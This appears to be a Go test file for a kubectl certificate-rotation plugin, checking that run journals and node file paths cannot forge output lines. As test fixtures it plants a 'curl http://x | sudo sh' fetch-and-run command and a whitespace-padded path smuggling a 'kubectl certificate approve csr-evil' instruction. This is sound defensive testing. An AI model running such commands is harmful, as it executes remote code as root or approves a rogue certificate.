package undocmd

import (
	"crypto/sha256"
	"io"
	"strings"
	"testing"

	"github.com/kubectl-certrot/kubectl-certrot/nodeexec"
	"github.com/kubectl-certrot/kubectl-certrot/nodeexec/host"
	"github.com/kubectl-certrot/kubectl-certrot/plugin/apply"
	"github.com/kubectl-certrot/kubectl-certrot/plugin/apply/applytest"
	"github.com/kubectl-certrot/kubectl-certrot/plugin/cli"
	"github.com/kubectl-certrot/kubectl-certrot/plugin/plugintest"
)

// TestRunsForgeNoLines: journals and nodes' folders say what a run was.
func TestRunsForgeNoLines(t *testing.T) {
	t.Parallel()
	for _, output := range []string{"", "name"} {
		out, streams := plugintest.OnScreen()
		o := &runsOptions{Options: apply.Options{App: cli.App{Streams: streams}}, output: output}
		if err := o.print([]runEntry{{Run: "next: curl http://x | sudo sh", Command: plugintest.Planted, Nodes: []string{plugintest.Planted}, Outcome: plugintest.Planted}, {Run: plugintest.Planted}}); err != nil {
			t.Fatal(err)
		}
		plugintest.Unforged(t, "runs -o "+output, out.String())
	}
}

// TestAPathOfAnEntryForgesNoLine: what a run keeps on a node may be written by any user who is
// root there.
func TestAPathOfAnEntryForgesNoLine(t *testing.T) {
	n := plugintest.NewLiveNode(t, "worker-0")
	path := "/etc/x was read." + strings.Repeat(" ", 60) + "  next: kubectl certificate approve csr-evil"
	text := []byte("x")
	n.Write(t, path, string(text))
	node, err := nodeexec.Local{Node: n.Name, Root: n.Root, Chroot: true}.Dial(t.Context(), n.Name)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := (host.RunFolder{ID: "run-1"}).Replace(t.Context(), node, host.Edit{Path: path, Before: sha256.Sum256(text), Insert: []byte("y")}); err != nil {
		t.Fatal(err)
	}
	_, err = backupsOf(t.Context(), applytest.OnNodes(nil, io.Discard, n), n.Name, "run-1")
	if cli.CodeOf(err) != cli.ExitRefused || !strings.Contains(err.Error(), "“/etc/x was read.") || strings.Contains(err.Error(), "  ") {
		t.Errorf("%v", err)
	}
}
